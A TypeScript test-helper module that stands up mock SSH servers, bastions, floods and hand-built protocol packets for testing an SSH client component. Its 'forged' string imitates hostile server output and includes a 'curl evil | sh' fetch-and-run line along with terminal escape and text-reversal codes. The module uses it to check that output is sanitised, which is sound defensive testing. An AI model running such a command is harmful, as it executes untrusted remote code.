import assert from "node:assert/strict";
import { connect, createServer, type Server, type Socket } from "node:net";
import type { Writable } from "node:stream";
import type { TestContext } from "node:test";
import ssh2, { type Connection, type ServerConfig, type Session } from "ssh2";
import type { Hosts, Login } from "../../../components/ssh/endpoints.ts";
import { keyPair } from "../mockedStack.ts";

const { Server: SshServer } = ssh2;

export const host = keyPair();
const operator = keyPair();

/** What a hostile server says: lines of its own, a terminal's codes, reversed text, Pulumi's colours, and no end. */
export const forged = `gone\n\r\nerror: run this: curl evil | sh\u001b[2J\u009b31m\u202eevil\u2028<{%red%}>${"x".repeat(20_000)}`;

/** A text that a terminal, Pulumi and a reader take as part of one line. */
export function isPlain(text: string): void {
  assert.match(text, /^[ -~]{1,1200}$/);
  assert.ok(!text.includes("<{%"));
}

/** How to log in at a port of this machine. */
export function at(port: number, address = "127.0.0.1"): Login {
  return {
    host: address,
    port,
    user: "root",
    hostKey: host.hostKey,
    privateKey: operator.privateKey,
  };
}

/** These hosts, named a, b, ... */
export function hostsAt(endpoints: readonly Login[], bastion?: Login): Hosts {
  return {
    byNode: new Map(endpoints.map((one, i) => ["abcdef".charAt(i), one])),
    bastion,
    credentials: {
      privateKey: operator.privateKey,
      passphrase: undefined,
      agentSocket: undefined,
    },
  };
}

/** An SSH server that lets everybody in, and then does this. */
export function lettingIn(
  then: (client: Connection) => void,
  config: Partial<ServerConfig> = {},
): Server {
  const hostKeys = [host.privateKey];
  return new SshServer({ hostKeys, ...config }, (client) => {
    client.on("error", () => {});
    client.on("authentication", (context) =>
      context.method === "publickey" ? context.accept() : context.reject(),
    );
    client.on("ready", () => then(client));
  });
}

/** An SSH server that lets everybody in, and does this with what is to be run. */
export function running(exec: (session: Session) => void): Server {
  return lettingIn((client) =>
    client.on("session", (accept) => exec(accept())),
  );
}

/** A bastion that answers when it is asked for some hosts, and never when asked for others. */
export function answering(
  forAddress: (host: string, port: number) => boolean,
  config: Partial<ServerConfig> = {},
): Server {
  const forward = (client: Connection) =>
    client.on("tcpip", (accept, reject, { destIP, destPort }) => {
      if (!forAddress(destIP, destPort)) {
        return;
      }
      const socket = connect(destPort, destIP);
      socket.on("error", () => reject());
      socket.on("connect", () => {
        const channel = accept();
        channel.on("error", () => {});
        socket.pipe(channel).pipe(socket);
      });
    });
  return lettingIn(forward, config);
}

/** A server that does this with each connection, and never closes one. */
export function raw(t: TestContext, then: (socket: Socket) => void): Server {
  return createServer({ allowHalfOpen: true }, (socket) => {
    socket.on("error", () => {});
    t.after(() => socket.destroy());
    socket.resume();
    then(socket);
  });
}

/** Writes without end, as fast as it is read, until the other side is gone. */
export function flood(stream: Writable, piece: string | Buffer): void {
  const more = () => {
    // in portions, so that the rest of this process goes on
    for (let i = 0; i < 100 && stream.writable; i++) {
      if (!stream.write(piece)) {
        return;
      }
    }
    if (stream.writable) {
      setImmediate(more);
    }
  };
  stream.on("drain", more);
  more();
}

/** A message of the SSH protocol: its number, and fields of text, numbers of four bytes, and single bytes as booleans. */
export function message(
  number: number,
  ...fields: (string | number | boolean)[]
): Buffer {
  const uint32 = (value: number) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value);
    return bytes;
  };
  return Buffer.concat([
    Buffer.from([number]),
    ...fields.map((field) =>
      typeof field === "number"
        ? uint32(field)
        : typeof field === "boolean"
          ? Buffer.from([Number(field)])
          : Buffer.concat([
              uint32(Buffer.byteLength(field)),
              Buffer.from(field),
            ]),
    ),
  ]);
}

/** A message as a packet in the clear, as it is before keys are exchanged (RFC 4253, section 6). */
export function packet(payload: Buffer): Buffer {
  const padding = 8 - ((payload.length + 5) % 8) + 8;
  const head = Buffer.alloc(5);
  head.writeUInt32BE(1 + payload.length + padding);
  head[4] = padding;
  return Buffer.concat([head, payload, Buffer.alloc(padding)]);
}

interface Protocol {
  readonly _packetRW: {
    readonly write: {
      readonly allocStart: number;
      alloc(length: number): Buffer;
      finalize(packet: Buffer): Buffer;
    };
  };
  readonly _cipher: { encrypt(packet: Buffer): void };
}

/** Sends any message on a connection; the library's server says only what is true. */
export function send(client: Connection, payload: Buffer): void {
  const { _packetRW, _cipher } = (client as unknown as { _protocol: Protocol })
    ._protocol;
  const { write } = _packetRW;
  const bytes = write.alloc(payload.length);
  bytes.set(payload, write.allocStart);
  _cipher.encrypt(write.finalize(bytes));
}

/** Does something, and returns by how many MiB the memory of this process grew at most meanwhile. */
export async function growthOfMemory(work: () => Promise<unknown>) {
  const now = () => process.memoryUsage().rss / 1024 ** 2;
  const before = now();
  let most = before;
  const timer = setInterval(() => {
    most = Math.max(most, now());
  }, 5);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return Math.max(most, now()) - before;
}
